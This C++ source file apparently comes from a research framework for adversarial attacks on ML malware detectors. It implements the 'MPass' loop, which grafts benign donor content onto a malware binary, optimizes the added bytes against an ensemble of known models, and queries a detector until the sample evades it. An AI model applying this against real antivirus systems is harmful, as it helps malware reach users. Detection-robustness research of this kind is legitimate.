#include "attack/mpass.hpp"

#include "core/optimizer.hpp"
#include "obs/span.hpp"
#include "obs/trace.hpp"

namespace mpass::attack {

using core::ModifiedSample;
using util::ByteBuf;

namespace {

// Ensemble steps between target queries.
constexpr int kOptStepsPerQuery = 2;
// Re-roll the donor after this many misses.
constexpr int kQueriesPerDonor = 8;
// Only spend a query once the ensemble consensus is at most this confident
// (or the extra-step budget is exhausted) -- queries are the scarce
// resource, local optimization is free.
constexpr float kQueryGateScore = 0.35f;
constexpr int kMaxGateSteps = 6;

const char* target_mode_name(core::TargetMode m) {
  switch (m) {
    case core::TargetMode::CodeData: return "code+data";
    case core::TargetMode::OtherSec: return "other-sec";
    case core::TargetMode::None: return "none";
  }
  return "?";
}

/// Trace event describing the chosen donor's modification layout: how many
/// bytes the optimizer may touch, where the recovery section (stub + keys)
/// landed, and the section-targeting / shuffle strategy in effect.
void trace_donor(const MpassConfig& cfg, const ModifiedSample& mod,
                 int candidates, float ensemble_score) {
  if (!obs::tracing()) return;
  obs::Event("action")
      .str("kind", "donor")
      .uint("candidates", static_cast<std::uint64_t>(candidates))
      .num("ensemble_score", ensemble_score)
      .str("targets", target_mode_name(cfg.modification.targets))
      .boolean("shuffle", cfg.modification.stub.shuffle)
      .uint("perturbable", mod.perturbable.size())
      .uint("coupled_keys", mod.coupled_count())
      .uint("stub_off", mod.recovery_section_off)
      .uint("stub_len", mod.recovery_section_len)
      .num("apr", mod.apr);
}

}  // namespace

Mpass::Mpass(std::string name, MpassConfig cfg,
             std::span<const ByteBuf> benign_pool,
             std::span<ml::ByteConvNet* const> known)
    : name_(std::move(name)),
      cfg_(std::move(cfg)),
      pool_(benign_pool.begin(), benign_pool.end()) {
  if (pool_.empty()) pool_.emplace_back();  // degenerate zero-donor
  known_.reserve(known.size());
  for (const ml::ByteConvNet* n : known) known_.push_back(*n);
}

AttackResult Mpass::run(std::span<const std::uint8_t> malware,
                        detect::HardLabelOracle& oracle, std::uint64_t seed) {
  OBS_SCOPE("attack.mpass.run");
  util::Rng rng(seed);
  AttackResult result;
  // Ensemble-loss trace: one "opt" event per optimizer step, numbered
  // monotonically across donors so the inspector can plot one loss curve
  // per sample.
  std::uint64_t opt_iter = 0;
  const auto trace_opt = [&opt_iter](float loss) {
    if (obs::tracing())
      obs::Event("opt").uint("iter", ++opt_iter).num("loss", loss);
  };

  const bool can_optimize = !known_.empty() && !cfg_.random_content;
  std::unique_ptr<core::EnsembleOptimizer> opt;
  if (can_optimize) {
    std::vector<ml::ByteConvNet*> nets;
    for (ml::ByteConvNet& n : known_) nets.push_back(&n);
    opt = std::make_unique<core::EnsembleOptimizer>(std::move(nets));
  }
  // Before each query: kOptStepsPerQuery steps, then more while the
  // ensemble scores the sample above the query gate. Returns the last loss.
  const auto optimize = [&](ModifiedSample& m) {
    float loss = 0.0f;
    for (int s = 0; s < kOptStepsPerQuery; ++s)
      trace_opt(loss = opt->step(m));
    for (int s = 0; s < kMaxGateSteps &&
                    opt->ensemble_score(m.bytes) > kQueryGateScore;
         ++s)
      trace_opt(loss = opt->step(m));
    return loss;
  };

  while (!oracle.exhausted()) {
    // (1) Initial perturbation from a random benign program + recovery.
    // When an ensemble is available, several candidate donors are modified
    // and the one scoring most benign on the known models is kept -- this
    // costs zero target queries and is what keeps AVQ low.
    ModifiedSample mod;
    bool have_mod = false;
    const int donor_candidates = can_optimize ? 4 : 1;
    float best_score = 1e30f;
    for (int c = 0; c < donor_candidates; ++c) {
      const ByteBuf& donor = pool_[rng.below(pool_.size())];
      ModifiedSample candidate;
      try {
        candidate =
            core::apply_modification(malware, donor, cfg_.modification, rng);
      } catch (const util::ParseError&) {
        return result;  // not a modifiable PE
      }
      const float score =
          can_optimize ? opt->ensemble_score(candidate.bytes) : 0.0f;
      if (!have_mod || score < best_score) {
        best_score = score;
        mod = std::move(candidate);
        have_mod = true;
      }
    }
    trace_donor(cfg_, mod, donor_candidates, best_score);
    if (cfg_.random_content)
      for (std::uint32_t p : mod.perturbable) mod.set_byte(p, rng.byte());

    // Burn-in optimization before spending the first query (paper workflow:
    // optimize on the ensemble, then query). Queries are the scarce
    // resource: keep optimizing until the ensemble consensus is benign
    // enough or the local budget runs out.
    if (can_optimize) optimize(mod);

    result.adversarial = mod.bytes;
    if (!oracle.query(mod.bytes)) {
      result.success = true;
      break;
    }

    if (!can_optimize) {
      // Random-content mode: fresh randomization per query; otherwise a new
      // donor is drawn by the outer loop.
      if (!cfg_.random_content) continue;
      while (!oracle.exhausted()) {
        for (std::uint32_t p : mod.perturbable) mod.set_byte(p, rng.byte());
        if (obs::tracing())
          obs::Event("action").str("kind", "randomize").uint(
              "bytes", mod.perturbable.size());
        if (!oracle.query(mod.bytes)) {
          result.success = true;
          result.adversarial = mod.bytes;
          break;
        }
      }
      break;
    }

    // (3) Keep optimizing on the ensemble, querying periodically.
    int donor_queries = 0;
    float prev_loss = 1e30f;
    int stalls = 0;
    while (!oracle.exhausted() && donor_queries < kQueriesPerDonor) {
      const float loss = optimize(mod);
      if (!oracle.query(mod.bytes)) {
        result.success = true;
        result.adversarial = mod.bytes;
        break;
      }
      ++donor_queries;
      // Loss plateau: this donor's basin is exhausted; re-initialize.
      if (loss >= prev_loss - 1e-4f) {
        if (++stalls >= 2) break;
      } else {
        stalls = 0;
      }
      prev_loss = loss;
    }
    if (result.success) break;
  }

  return result;
}

}  // namespace mpass::attack
